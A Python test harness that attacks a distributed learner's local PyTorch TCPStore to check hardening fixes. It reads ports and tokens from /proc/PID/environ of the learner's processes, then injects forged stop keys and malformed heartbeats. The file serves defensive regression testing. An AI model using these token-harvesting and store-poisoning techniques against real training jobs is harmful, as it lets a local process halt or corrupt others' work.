"""Attacks on the learner ranks' rendezvous store (learner/ranks/): issue 15, class 6.

The ranks share a TCPStore on a loopback port (rank 0 hosts it; under torchrun the agent does). Any local process can
connect to it: these attacks are such a process. They find the store's port where a local process of the same user
finds it (MASTER_PORT in a rank's environment, /proc/PID/environ), and write under the key prefix the ranks used
before the store was authenticated (``impala-async/<restart count>/``) and under every token they know: one the caller
gives (an insider's, or the IMPALA_ASYNC_RANK_TOKEN a test set) and any found in the processes' environments:
- ``stop``: the stop key, as if rank 1 had stopped (rank 0 then stopped the whole learner);
- ``beat``: rank 1's heartbeat with a figure that is not an int, written faster than rank 1 beats, for a while (rank
  0 summed it into its snapshot: every report and checkpoint, the final one included, failed);
- ``garbage``: every malformed heartbeat in turn (ints out of range, not objects, not JSON), then malformed stops.

:func:`run_attack` starts a real 2-rank ``train`` with the Python given (another checkout's, to measure the code
before a fix), attacks it and returns figures: did it keep training, how it ended, was a final checkpoint written. No
pytest here: tools/attack_figures.py and tools/soak.py run it too.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from datetime import timedelta
from pathlib import Path

import psutil
from procutil import cli

LEGACY_PREFIX = "impala-async/0"  # the ranks' key prefix before the store was authenticated (no restart: 0)
TOKEN_ENV = "IMPALA_ASYNC_RANK_TOKEN"

# Rank 1's heartbeat, malformed: a figure that is not an int (counters.take summed it with int()), then worse.
MALFORMED_BEATS = (
    lambda seq: json.dumps({"seq": seq, "env_steps": "many", "episodes": [1]}),
    lambda seq: json.dumps({"seq": seq, "env_steps": 10**400}),
    lambda seq: json.dumps({"seq": seq, "env_steps": -(2**70), "episodes": float("nan")}),
    lambda seq: json.dumps({"seq": "x"}),
    lambda seq: json.dumps([seq]),
    lambda seq: b"\xff not json",
)
MALFORMED_STOPS = (
    json.dumps({"rank": "one"}),
    json.dumps({"rank": 7, "reason": "x" * 100_000, "code": 10**30}),
    b"\x00\xff",
)


def prefixes(token: str = "") -> list[str]:
    """Where the attacks write: the legacy prefix, and under each token known (``token``: several, comma-separated;
    learner/ranks/'s key layout)."""
    return [LEGACY_PREFIX] + [f"{LEGACY_PREFIX}/{t}" for t in token.split(",") if t]


def environ_tokens(learner_pid: int, port: int) -> list[str]:
    """Tokens found where any process of the same user can look, /proc/PID/environ of the learner and its children:
    every value there that opens a key of the store (rank 0's heartbeat exists under it)."""
    store, values = connect(port), set()
    for p in [psutil.Process(learner_pid)] + psutil.Process(learner_pid).children(recursive=True):
        try:
            values |= {v for v in p.environ().values() if 8 <= len(v) <= 256 and "/" not in v}
        except psutil.Error:
            continue
    return [v for v in sorted(values) if store.check([f"{LEGACY_PREFIX}/{v}/beat/0"])]


def store_port(learner_pid: int, timeout_s: float = 60.0) -> int:
    """The store's port, from MASTER_PORT in the environment of a rank the learner started (what any process of the
    same user can read in /proc/PID/environ)."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        try:
            kids = psutil.Process(learner_pid).children(recursive=True)
        except psutil.NoSuchProcess:
            break
        for p in kids:
            try:
                env = p.environ()
            except psutil.Error:
                continue
            if env.get("RANK") and env.get("MASTER_PORT"):
                return int(env["MASTER_PORT"])
        time.sleep(0.1)
    raise RuntimeError(f"no learner rank with MASTER_PORT under pid {learner_pid}")


def connect(port: int, host: str = "127.0.0.1", timeout_s: float = 10.0):
    """A client of the ranks' store, as any local process can make one."""
    from torch.distributed import TCPStore

    return TCPStore(host, port, is_master=False, timeout=timedelta(seconds=timeout_s), wait_for_workers=False)


def write_stop(port: int, token: str = "", reason: str = "a stranger's order", code: int = 0) -> int:
    """The stop key, as rank 1 would write it (exit code 0: rank 0 then stopped the whole learner), under every
    prefix known. Returns the keys written."""
    store, written = connect(port), 0
    for prefix in prefixes(token):
        store.set(f"{prefix}/stop", json.dumps({"rank": 1, "reason": reason, "code": code}))
        written += 1
    return written


def write_beats(
    port: int, seconds: float, token: str = "", every=MALFORMED_BEATS[:1], interval_s: float = 0.02, done=None
) -> int:
    """Rank 1's heartbeat replaced by malformed ones (``every``: makers of a value from a sequence number, in turn),
    one every ``interval_s`` (rank 1 beats every 0.5 s: rank 0 reads mostly these) for ``seconds`` or until
    ``done()``, under every prefix known. Returns the values written."""
    store, written, seq = connect(port), 0, 10**6
    end = time.monotonic() + seconds
    while time.monotonic() < end and not (done is not None and done()):
        seq += 1
        for prefix in prefixes(token):
            try:
                store.set(f"{prefix}/beat/1", every[seq % len(every)](seq))
            except Exception:  # the store is gone with the learner
                return written
            written += 1
        time.sleep(interval_s)
    return written


def write_garbage(port: int, seconds: float, token: str = "", done=None) -> int:
    """Every malformed heartbeat in turn, then malformed stops (an insider's, under the token's prefix when known;
    a malformed stop under the legacy prefix also ends the old code). Returns the values written."""
    written = write_beats(port, seconds, token, MALFORMED_BEATS, done=done)
    if done is not None and done():
        return written  # the learner is gone, and the store with it
    store = connect(port)
    for value in MALFORMED_STOPS:
        for prefix in prefixes(token):
            store.set(f"{prefix}/stop", value)
            written += 1
    return written


# ------------------------------------------------------------------------------------------------ a real learner
TRAIN_FLAGS = (
    "--env",
    "CartPole-v1",
    "--learner-ranks",
    "2",
    "--num-actors",
    "2",
    "--unroll-length",
    "10",
    "--batch-size",
    "4",
    "--report-interval-s",
    "0.5",
    "--total-env-steps",
    "100000000",
    "--rank-state-dump",
    "1",
)


def read_rows(logdir: Path) -> list[dict]:
    """metrics.jsonl's records (a line being written is skipped)."""
    rows = []
    try:
        lines = (Path(logdir) / "metrics.jsonl").read_text().splitlines()
    except OSError:
        return rows
    for line in lines:
        try:
            rows.append(json.loads(line))
        except ValueError:
            continue
    return rows


def learner_steps(logdir: Path) -> int:
    rows = read_rows(logdir)
    return int(rows[-1].get("learner_steps", 0)) if rows else 0


def start_train(
    logdir: Path, log: Path, python: str = sys.executable, token: str = "", cwd: Path | None = None, extra=()
) -> subprocess.Popen:
    """``train`` with two learner ranks and two local actors (``token``: the operator's IMPALA_ASYNC_RANK_TOKEN;
    ``cwd``: where ``python -m impala_async`` takes the package from, the checkout measured)."""
    env = {k: v for k, v in os.environ.items() if k != TOKEN_ENV}
    env.update({TOKEN_ENV: token} if token else {})
    for name in ("IMPALA_ASYNC_METRICS_PORT", "IMPALA_ASYNC_METRICS_HOST"):
        env.pop(name, None)
    return cli("train", *TRAIN_FLAGS, "--logdir", str(logdir), *extra, log=log, env=env, python=python, cwd=cwd)


def wait_steps(proc: subprocess.Popen, logdir: Path, steps: int, timeout_s: float) -> bool:
    """True once metrics.jsonl reports ``steps`` updates; False if the learner exits or time runs out first."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline and proc.poll() is None:
        if learner_steps(logdir) >= steps:
            return True
        time.sleep(0.1)
    return False


def final_checkpoint(logdir: Path) -> int | None:
    """The updates in the newest checkpoint (with the default interval of 600 s, the final one), or None."""
    import torch

    found = sorted(Path(logdir).glob("checkpoint-*.pt"))
    if not found:
        return None
    return int(torch.load(found[-1], weights_only=True)["learner"]["updates"])


def end(proc: subprocess.Popen, timeout_s: float = 30.0) -> int:
    """SIGTERM (if still running), then the exit code; whatever it started is killed if it outlives it."""
    kids = [p for p in psutil.Process(proc.pid).children(recursive=True)] if proc.poll() is None else []
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
    try:
        code = proc.wait(timeout_s)
    except subprocess.TimeoutExpired:
        proc.kill()
        code = proc.wait()
    for p in kids:
        try:
            p.kill()
        except psutil.Error:
            pass
    return code


def attack(kind: str, port: int, token: str, attack_s: float, done) -> int:
    """One attack on the store at ``port``: "stop" (the stop key, once), "beat" (rank 1's heartbeat with a figure that
    is not an int, for ``attack_s`` or until ``done()``), "garbage" (every malformed value in turn). Values written."""
    if kind == "stop":
        return write_stop(port, token)
    if kind == "beat":
        return write_beats(port, attack_s, token, done=done)
    if kind == "garbage":
        return write_garbage(port, attack_s, token, done=done)
    raise ValueError(f"unknown attack {kind!r}")


def run_attack(
    kind: str,
    *,
    python: str = sys.executable,
    cwd: Path | None = None,
    workdir: Path | None = None,
    token: str = "",
    attack_s: float = 8.0,
    watch_s: float = 10.0,
    start_timeout_s: float = 180.0,
    extra: tuple[str, ...] = (),
) -> dict:
    """Start a 2-rank CartPole ``train`` (``python`` in ``cwd``: whose code; ``extra``: more flags), wait for 20
    updates, attack its store (:func:`attack`), watch it for ``watch_s`` more, then SIGTERM it. Figures:
    ``kept_training`` (more updates during the watch and still running at its end), ``exited_s`` (seconds from the
    attack to an exit of its own, or None), ``exit_code``, ``tokens_from_environ`` (store tokens found in the
    processes' environments, used too), ``final_checkpoint_updates`` (None: no checkpoint), ``rank_state_modes``
    (rank-<r>-state.pt's permission bits), whether the log holds a ``traceback``, and ``rejected_lines`` (the
    learner's log lines on store values it ignored) and ``rejected_counted`` (the most metrics.jsonl reported, in
    ``rank_values_rejected``; 0 where the code has no such counter)."""
    tmp = Path(workdir or tempfile.mkdtemp(prefix="attack-ranks-"))
    logdir, log = tmp / f"run-{kind}", tmp / f"{kind}.log"
    proc = start_train(logdir, log, python, token, cwd, extra)
    try:
        if not wait_steps(proc, logdir, 20, start_timeout_s):
            raise RuntimeError(f"the learner did not train (exit {proc.poll()}): {log}")
        port = store_port(proc.pid)
        stolen = environ_tokens(proc.pid, port)
        before, t0 = learner_steps(logdir), time.monotonic()
        written = attack(kind, port, ",".join([token, *stolen]), attack_s, lambda: proc.poll() is not None)
        deadline = time.monotonic() + watch_s
        while time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.1)
        exited = None if proc.poll() is None else round(time.monotonic() - t0, 1)
        after, running = learner_steps(logdir), proc.poll() is None
        code = end(proc)
    finally:
        if proc.poll() is None:
            end(proc, 5.0)
    text = log.read_text(errors="replace")
    return {
        "attack": kind,
        "values_written": written,
        "tokens_from_environ": len(stolen),
        "kept_training": running and after > before,
        "updates_before": before,
        "updates_after": after,
        "exited_s": exited,
        "exit_code": code,
        "final_checkpoint_updates": final_checkpoint(logdir),
        "rank_state_modes": {p.name: oct(p.stat().st_mode & 0o777) for p in sorted(logdir.glob("rank-*-state.pt"))},
        "traceback": "Traceback" in text,
        "rejected_lines": sum("ranks' store" in line and "ignored" in line for line in text.splitlines()),
        "rejected_counted": max((r.get("rank_values_rejected", 0) for r in read_rows(logdir)), default=0),
        "log": str(log),
    }


if __name__ == "__main__":  # python tests/attacks_ranks.py stop|beat|garbage [PYTHON [CHECKOUT [TOKEN]]]
    args = sys.argv[1:] + [""] * 3
    print(
        json.dumps(run_attack(args[0], python=args[1] or sys.executable, cwd=args[2] or None, token=args[3]), indent=1)
    )
